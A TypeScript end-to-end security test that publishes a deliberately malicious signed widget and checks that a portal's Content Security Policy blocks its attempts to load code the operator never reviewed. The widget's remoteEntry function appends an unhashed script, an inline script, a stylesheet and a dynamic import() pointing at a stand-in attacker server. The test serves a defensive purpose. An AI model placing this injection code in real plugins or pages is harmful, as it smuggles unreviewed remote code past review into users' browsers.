/**
 * Evil widget, scripts and styles: a widget published, approved (signed) and placed by the test, whose
 * signed code tries to run code the province never reviewed — an unhashed script appended to
 * `document.body`, an inline script, and `import()` of a URL outside the placed assets, all served by a
 * server that counts every request. In the real shell web app under the page's CSP, every attempt is
 * refused (no request reaches that server, no side effect, a CSP violation for `import()`, the guard's
 * coded warning for the DOM paths) and the portal still renders.
 */
import { cpSync, existsSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import {
  type LaunchedBrowser,
  launchChromium,
  makeTarball,
  makeTempDir,
  openPage,
  publishDocument,
  publishPath,
  sri,
} from '@cunmen/test-utils';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixtureManifest, startRegistry, type TestRegistry } from '../../test/registry.js';
import { admin, startShell, type TestShell, XIANTAN } from '../../test/shell.js';

const realWeb = fileURLToPath(new URL('../../../web/dist', import.meta.url));
const EVIL = '@deqing/evil-widget';

/** The signed remote entry: an MF `global` container whose `./Tile` factory runs the attacks. */
function remoteEntry(evilOrigin: string): string {
  return `(function () {
  globalThis.evil_widget = {
    init: function () {},
    get: function () {
      return Promise.resolve(function () {
        window.__evilAttempted = true;
        var appended = document.createElement('script');
        appended.src = '${evilOrigin}/appended.js';
        document.body.appendChild(appended);
        var inline = document.createElement('script');
        inline.textContent = 'window.__evilInline = true';
        document.body.appendChild(inline);
        var sheet = document.createElement('link');
        sheet.rel = 'stylesheet';
        sheet.href = '${evilOrigin}/evil.css';
        document.head.appendChild(sheet);
        window.__evilImport = import('${evilOrigin}/imported.js').then(
          function () { return 'ran'; },
          function () { return 'refused'; }
        );
        return { default: null };
      });
    }
  };
})();
`;
}

/** Publishes and approves the evil widget with its own asset bodies (a real, signed MF container). */
async function publishEvil(registry: TestRegistry, evilOrigin: string): Promise<void> {
  const { manifest } = fixtureManifest(EVIL, '1.0.0', {
    exposes: { './Tile': './src/tile.ts' },
    contributes: [{ slot: 'village.home.tile/v1', expose: './Tile', icon: 'tractor' }],
    capabilities: [],
    configSchema: null,
    configDefaults: null,
  });
  const bodies: Record<string, string> = {
    'remoteEntry.js': remoteEntry(evilOrigin),
    'mf-manifest.json': '{"id":"evil","exposes":[{"name":"Tile","path":"./Tile"}]}\n',
  };
  manifest.assets = Object.entries(bodies).map(([path, body]) => ({
    path,
    size: body.length,
    gzip: body.length,
    integrity: sri(body),
    contentType: path.endsWith('.json') ? 'application/json' : 'text/javascript',
  }));
  const files: Record<string, string> = {
    'package/package.json': JSON.stringify({ name: EVIL, version: '1.0.0' }),
    'package/dist/cunmen.json': JSON.stringify(manifest),
  };
  for (const [path, body] of Object.entries(bodies)) files[`package/dist/${path}`] = body;
  const doc = publishDocument(EVIL, '1.0.0', makeTarball(files), {
    dist: { tarball: `${registry.url}/${EVIL}/-/x.tgz` },
  });
  const res = await registry.app.inject({
    method: 'PUT',
    url: publishPath(EVIL),
    headers: { authorization: `Bearer ${registry.tokens.deqing}`, 'content-type': 'application/json' },
    payload: JSON.stringify(doc),
  });
  expect(res.statusCode, res.body).toBe(201);
  await registry.approve(EVIL, '1.0.0');
}

describe('an evil widget adding scripts the province did not sign', () => {
  let registry: TestRegistry;
  let shell: TestShell;
  let shellUrl = '';
  let evil: Server;
  let browser: LaunchedBrowser;
  const hits: string[] = [];
  let dir: Awaited<ReturnType<typeof makeTempDir>>;

  beforeAll(async () => {
    expect(existsSync(join(realWeb, 'index.html')), 'build @cunmen/shell-web first').toBe(true);
    evil = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.writeHead(200, {
        'content-type': req.url?.endsWith('.css') ? 'text/css' : 'text/javascript',
        'access-control-allow-origin': '*',
      });
      res.end('window.__evilRan = true;');
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    const evilOrigin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;

    registry = await startRegistry();
    await publishEvil(registry, evilOrigin);
    dir = await makeTempDir('cunmen-evil-scripts-');
    const web = join(dir.path, 'web');
    cpSync(realWeb, web, { recursive: true });
    expect(readFileSync(join(web, 'index.html'), 'utf8')).toContain('<!--cunmen:snapshot-->');
    shell = await startShell({ registryUrl: registry.url, webDist: web });
    const saved = await shell.app.inject({
      method: 'PUT',
      url: `/api/portals/${XIANTAN}`,
      headers: admin,
      payload: {
        baseVersion: 0,
        title: { 'zh-CN': '仙潭村门户' },
        widgets: [
          { name: EVIL, version: '1.0.0', config: {}, placements: [{ slot: 'village.home.tile/v1' }] },
        ],
      },
    });
    expect(saved.statusCode, saved.body).toBe(200);
    shellUrl = await shell.app.listen({ port: 0, host: '127.0.0.1' });
    browser = await launchChromium();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await shell?.close();
    await registry?.close();
    await new Promise((resolve) => evil?.close(resolve));
    await dir?.remove();
  });

  it('refuses the appended, inline and imported scripts and the stylesheet; the portal still renders', async () => {
    const { page } = await openPage(browser.browser, 'evil widget scripts');
    const warnings: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'warning' && m.text().includes('[cunmen]')) warnings.push(m.text());
    });
    await page.addInitScript(() => {
      const seen: string[] = [];
      (window as unknown as { __violations: string[] }).__violations = seen;
      document.addEventListener('securitypolicyviolation', (e) =>
        seen.push(`${e.violatedDirective} ${e.blockedURI}`),
      );
    });
    const res = await page.goto(`${shellUrl}/v/${XIANTAN}/`);
    expect(res?.status()).toBe(200);
    const csp = res?.headers()['content-security-policy'] ?? '';
    expect(csp).toMatch(
      new RegExp(`script-src 'self' ${registry.url}/-/assets/[0-9a-f]{64}/remoteEntry\\.js;`),
    );

    // The signed code ran (so the attempts were really made) …
    await page.waitForFunction(
      () => (window as unknown as { __evilImport?: unknown }).__evilImport !== undefined,
      null,
      {
        timeout: 20_000,
      },
    );
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>;
      return {
        attempted: w.__evilAttempted,
        imported: await (w.__evilImport as Promise<string>),
        ran: w.__evilRan ?? false,
        inline: w.__evilInline ?? false,
        violations: (w.__violations as string[]).slice(),
      };
    });
    // … and nothing the province did not sign ran, or was even requested.
    expect(outcome).toMatchObject({ attempted: true, imported: 'refused', ran: false, inline: false });
    expect(outcome.violations.some((v) => v.startsWith('script-src') && v.includes('/imported.js'))).toBe(
      true,
    );
    expect(hits).toEqual([]);
    expect(warnings.filter((w) => w.includes('SHELL_ERR_SCRIPT_REFUSED')).join('\n')).toMatch(/appended\.js/);
    expect(warnings.join('\n')).toMatch(/an inline script/);
    expect(warnings.join('\n')).toMatch(/evil\.css/);
    expect(await page.locator('script[src*="appended.js"], link[href*="evil.css"]').count()).toBe(0);

    // The portal still works: the village's page rendered around the failed tile.
    await expect.poll(() => page.locator('#root').textContent(), { timeout: 10_000 }).toContain('仙潭村');
  }, 90_000);
});
